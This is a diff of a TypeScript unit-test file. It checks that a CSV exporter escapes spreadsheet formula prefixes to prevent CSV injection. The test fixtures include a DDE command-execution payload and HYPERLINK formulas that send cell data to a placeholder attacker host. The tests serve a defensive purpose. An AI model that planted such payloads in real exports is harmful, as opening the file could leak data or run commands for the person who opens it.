@@ -77,10 +77,63 @@ describe('toCsv', () => {
     expect(de[1]![CSV_COLUMNS.indexOf('teaching_time')]).toBe('2,5 Std.');
   });
 
-  it('can defuse spreadsheet formulas', () => {
-    const o = withSessions([{ date: '2027-06-01', status: 'scheduled', title: '=HYPERLINK("x")' }]);
-    expect(read(toCsv(o, program))[1]![CSV_COLUMNS.indexOf('title')]).toBe('=HYPERLINK("x")');
-    expect(read(toCsv(o, program, { escapeFormulas: true }))[1]![CSV_COLUMNS.indexOf('title')]).toBe('\'=HYPERLINK("x")');
+  it('defuses spreadsheet formulas in text cells by default (OWASP)', () => {
+    const o = withSessions(
+      [
+        {
+          date: '2027-06-01',
+          time: '09:00-16:00',
+          status: 'scheduled',
+          modules: ['einstieg'],
+          title: '+49 711 123456',
+          note: "@SUM(1+1)*cmd|' /C calc'!A0",
+          reason: '-2+3',
+          location: '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
+          facilitators: [{ name: '\tTab' }],
+          sequence: 3,
+        },
+      ],
+      { ...offering, location: undefined },
+    );
+    const hostile = { ...program, modules: [{ id: 'einstieg', title: '=HYPERLINK("http://evil.example","Einstieg")', hours: 8 }] };
+    for (const separator of [',', ';'] as const) {
+      const row = read(toCsv(o, hostile, { separator, bom: true }), separator)[1]!;
+      const cell = (c: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(c)];
+      expect(cell('title')).toBe("'+49 711 123456");
+      expect(cell('note')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+      expect(cell('reason')).toBe("'-2+3");
+      expect(cell('location')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Klick")');
+      expect(cell('module_titles')).toBe('\'=HYPERLINK("http://evil.example","Einstieg")');
+      expect(cell('facilitators')).toBe("'\tTab");
+      // What the exporter writes itself stays as it is: numbers stay numbers.
+      expect([cell('date'), cell('start'), cell('end'), cell('breaks')]).toEqual(['2027-06-01', '09:00', '16:00', '']);
+      expect([cell('teaching_minutes'), cell('teaching_time'), cell('sequence')]).toEqual(['420', '9⅓ UE', '3']);
+      for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const raw = read(toCsv(o, hostile, { escapeFormulas: false }))[1]!;
+    expect(raw[CSV_COLUMNS.indexOf('title')]).toBe('+49 711 123456');
+    expect(raw[CSV_COLUMNS.indexOf('reason')]).toBe('-2+3');
+  });
+
+  it('changes nothing in ordinary data when defusing formulas', () => {
+    expect(toCsv(offering, program, { separator: ';' })).toBe(toCsv(offering, program, { separator: ';', escapeFormulas: false }));
+  });
+
+  it('never lets a text cell start a formula, and only ever adds one apostrophe (property)', () => {
+    const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", ' ', 'a', '1');
+    fc.assert(
+      fc.property(fc.tuple(trigger, fc.string({ maxLength: 20 })), fc.constantFrom(',' as const, ';' as const), ([head, rest], separator) => {
+        const text = head + rest;
+        const o = withSessions([{ date: '2027-06-01', status: 'scheduled', title: text, note: text, location: text }]);
+        const row = read(toCsv(o, program, { separator }), separator)[1]!;
+        for (const c of ['title', 'note', 'location'] as const) {
+          const cell = row[CSV_COLUMNS.indexOf(c)]!;
+          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+          expect(cell).toBe(/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+        }
+      }),
+      { numRuns: 300 },
+    );
   });
 
   it('round-trips arbitrary titles through csv-parse (property)', () => {
@@ -93,7 +146,7 @@ describe('toCsv', () => {
         (a, b, separator, bom) => {
           const title = a + b;
           const o = withSessions([{ date: '2027-06-01', status: 'scheduled', title }]);
-          const rows = read(toCsv(o, program, { separator, bom }), separator);
+          const rows = read(toCsv(o, program, { separator, bom, escapeFormulas: false }), separator);
           expect(rows).toHaveLength(2);
           expect(rows[1]![CSV_COLUMNS.indexOf('title')]).toBe(title);
         },
